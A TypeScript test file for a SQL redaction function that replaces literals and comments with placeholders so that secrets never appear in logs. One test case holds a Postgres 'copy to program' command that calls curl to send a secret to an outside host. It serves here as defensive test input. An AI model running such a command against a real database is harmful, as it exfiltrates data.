// redactLiterals: no literal value or comment survives into recorded text.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { loadSqlParser } from './classify.js';
import { UNPARSEABLE_REDACTED, redactLiterals } from './redact.js';

before(() => loadSqlParser());

const CASES: [string, string][] = [
  ["select * from t where email = 'a@b.c' and n = 42", 'select * from t where email = $1 and n = $2'],
  ["create user x password 'hunter2'", 'create user x password $1'],
  ["alter role x password 'hunter2'", 'alter role x password $1'],
  ["copy t to program 'curl http://x/?k=secret'", 'copy t to program $1'],
  ["select B'0101', X'ff', U&'d\\0061t', E'x\\'y', $$dollar$$, $q$tagged$q$ from t where x = $1",
    'select $2, $3, $4, $5, $6, $7 from t where x = $1'],
  ['select 1 /* api_key=abc */ from t -- token xyz', 'select $1  from t'],
  ["select 'a'\n'b'", 'select $1'],
  ["select 'ünïcödé' as \"Ünï\"", 'select $1 as "Ünï"'],
  ['select a from t', 'select a from t'],
  ['', ''],
];

test('redactLiterals: literals become parameters, comments go', async (t) => {
  for (const [sql, expected] of CASES) {
    await t.test(sql, () => assert.equal(redactLiterals(sql), expected));
  }
});

test('redactLiterals: unparseable text is replaced whole, never echoed', () => {
  for (const sql of ["select 'secret", 'selec secret', "select 1\0 'secret'"]) {
    assert.equal(redactLiterals(sql), UNPARSEABLE_REDACTED);
  }
});
